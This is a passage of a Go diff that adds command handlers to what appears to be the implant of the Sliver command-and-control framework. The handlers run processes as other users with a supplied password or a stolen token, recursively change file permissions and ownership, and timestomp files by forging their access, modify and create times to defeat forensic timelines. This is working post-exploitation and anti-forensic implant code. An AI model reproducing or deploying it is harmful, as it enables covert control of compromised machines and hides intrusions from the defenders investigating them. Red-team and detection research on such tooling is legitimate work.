+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	whoami, err := priv.Whoami()
+	if err != nil {
+		whoami = &sliverpb.Whoami{
+			Response: &commonpb.Response{
+				Err: err.Error(),
+			},
+		}
+	}
+	data, err = proto.Marshal(whoami)
+	resp(data, err)
+}
+
+func runAsHandler(data []byte, resp RPCResponse) {
+	runAsReq := &sliverpb.RunAsReq{}
+	err := proto.Unmarshal(data, runAsReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	result, err := priv.RunAs(priv.RunAsOptions{
+		Username:   runAsReq.Username,
+		Domain:     runAsReq.Domain,
+		Password:   runAsReq.Password,
+		Process:    runAsReq.ProcessName,
+		Args:       runAsReq.Args,
+		NetOnly:    runAsReq.NetOnly,
+		UseToken:   runAsReq.UseToken,
+		Method:     runAsReq.Method,
+		Background: runAsReq.Background,
+	})
+	runAs := &sliverpb.RunAs{}
+	if err != nil {
+		runAs.Response = &commonpb.Response{Err: err.Error()}
+	} else {
+		runAs.Output = result.Output
+		runAs.Pid = int32(result.Pid)
+		runAs.Username = result.Username
+	}
+	data, err = proto.Marshal(runAs)
+	resp(data, err)
+}
+
+func chmodHandler(data []byte, resp RPCResponse) {
+	chmodReq := &sliverpb.ChmodReq{}
+	err := proto.Unmarshal(data, chmodReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	target, _ := filepath.Abs(chmodReq.Path)
+	chmod := &sliverpb.Chmod{Path: target}
+	err = walkTarget(target, chmodReq.Recursive, func(path string) error {
+		return os.Chmod(path, os.FileMode(chmodReq.FileMode))
+	})
+	if err != nil {
+		chmod.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(chmod)
+	resp(data, err)
+}
+
+func chownHandler(data []byte, resp RPCResponse) {
+	chownReq := &sliverpb.ChownReq{}
+	err := proto.Unmarshal(data, chownReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	target, _ := filepath.Abs(chownReq.Path)
+	chown := &sliverpb.Chown{Path: target}
+	uid, err := lookupID(chownReq.Uid, func(name string) (string, error) {
+		owner, err := user.Lookup(name)
+		if err != nil {
+			return "", err
+		}
+		return owner.Uid, nil
+	})
+	if err == nil {
+		var gid int
+		gid, err = lookupID(chownReq.Gid, func(name string) (string, error) {
+			group, err := user.LookupGroup(name)
+			if err != nil {
+				return "", err
+			}
+			return group.Gid, nil
+		})
+		if err == nil {
+			err = walkTarget(target, chownReq.Recursive, func(path string) error {
+				return os.Lchown(path, uid, gid)
+			})
+		}
+	}
+	if err != nil {
+		chown.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	}
+	data, err = proto.Marshal(chown)
+	resp(data, err)
+}
+
+func timestompHandler(data []byte, resp RPCResponse) {
+	timestompReq := &sliverpb.TimestompReq{}
+	err := proto.Unmarshal(data, timestompReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	target, _ := filepath.Abs(timestompReq.Path)
+	timestompResp := &sliverpb.Timestomp{Path: target}
+	times := &timestomp.Times{}
+	if timestompReq.Reference != "" {
+		times, err = timestomp.Stat(timestompReq.Reference)
+	}
+	if err == nil {
+		if timestompReq.AccessTime != 0 {
+			times.Accessed = time.Unix(0, timestompReq.AccessTime)
+		}
+		if timestompReq.ModifyTime != 0 {
+			times.Modified = time.Unix(0, timestompReq.ModifyTime)
+		}
+		if timestompReq.CreateTime != 0 {
+			times.Created = time.Unix(0, timestompReq.CreateTime)
+		}
+		err = timestomp.Set(target, times)
+	}
+	if err == nil {
+		// Read them back, not every platform can set every timestamp
+		times, err = timestomp.Stat(target)
+	}
+	if err != nil {
+		timestompResp.Response = &commonpb.Response{
+			Err: err.Error(),
+		}
+	} else {
+		timestompResp.AccessTime = times.Accessed.UnixNano()
+		timestompResp.ModifyTime = times.Modified.UnixNano()
+		if !times.Created.IsZero() {
+			timestompResp.CreateTime = times.Created.UnixNano()
+		}
+	}
+	data, err = proto.Marshal(timestompResp)
+	resp(data, err)
+}
+
+// walkTarget - Apply fn to the target, or to everything under it if recursive
+func walkTarget(target string, recursive bool, fn func(string) error) error {
+	if !recursive {
+		return fn(target)
+	}
+	return filepath.Walk(target, func(path string, info os.FileInfo, err error) error {
+		if err != nil {
+			return err
+		}
+		return fn(path)
+	})
+}
+
+// lookupID - Resolve a user/group name or numeric ID, empty names resolve to
+// -1 which leaves the ID unchanged
+func lookupID(name string, lookup func(string) (string, error)) (int, error) {
+	if name == "" {
+		return -1, nil
+	}
+	if id, err := strconv.Atoi(name); err == nil {
+		return id, nil
+	}
+	id, err := lookup(name)
+	if err != nil {
+		return -1, err
+	}
+	return strconv.Atoi(id)
+}